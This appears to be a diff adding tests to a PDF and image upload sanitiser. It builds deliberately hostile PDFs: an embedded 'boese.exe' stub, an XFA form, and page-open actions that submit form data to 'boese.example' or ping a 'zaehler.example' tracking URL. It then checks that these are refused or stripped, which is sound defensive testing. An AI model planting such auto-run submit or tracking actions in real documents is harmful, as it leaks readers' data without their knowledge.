@@ -1,3 +1,4 @@
+import importlib
 import io
 
 import pikepdf
@@ -92,6 +93,19 @@ def programmstart(pdf):
     )
 
 
+def eingebettet(pdf):
+    pdf.attachments["boese.exe"] = b"MZ"
+
+
+def formular_mit_skript(pdf):
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp/>"))
+
+
+def sendet(pdf):
+    aktion = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://boese.example/")
+    pdf.pages[0].AA = pikepdf.Dictionary(O=aktion)
+
+
 def ohne_seite(pdf):
     del pdf.pages[0]
 
@@ -115,6 +129,9 @@ PDF = make_pdf()
         (make_pdf(prepare=skript), "JavaScript"),
         (make_pdf(prepare=verstecktes_skript), "JavaScript"),
         (make_pdf(prepare=programmstart), "Programm"),
+        (make_pdf(prepare=eingebettet), "steckt eine weitere Datei"),
+        (make_pdf(prepare=formular_mit_skript), "Programm"),
+        (make_pdf(prepare=sendet), "Programm"),
         (make_pdf(prepare=ohne_seite), "keine Seite"),
         (make_pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "Passwort"),
         (make_pdf(encryption=pikepdf.Encryption(owner="a", user="")), "geschützt"),
@@ -210,3 +227,19 @@ def test_a_picture_needs_words_for_those_who_do_not_see_it(db, inhalt, noetig):
 )
 def test_file_names_are_made_for_people(name, erwartet):
     assert freundlicher_name(name, "application/pdf") == erwartet
+
+
+def test_a_cut_off_picture_is_refused_after_a_pdf_was_made():
+    """WeasyPrint makes Pillow forgive cut off files, for the whole process."""
+    importlib.import_module("weasyprint")
+    with pytest.raises(ValidationError, match="beschädigt"):
+        bereinigen(make_png((64, 64))[:-30])
+
+
+def test_nothing_happens_by_itself_when_a_pdf_is_opened():
+    def zaehlpixel(pdf):
+        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://zaehler.example/")
+        pdf.pages[0].AA = pikepdf.Dictionary(O=pdf.Root.OpenAction)
+
+    _, sauber = bereinigen(make_pdf(prepare=zaehlpixel))
+    assert b"zaehler.example" not in sauber
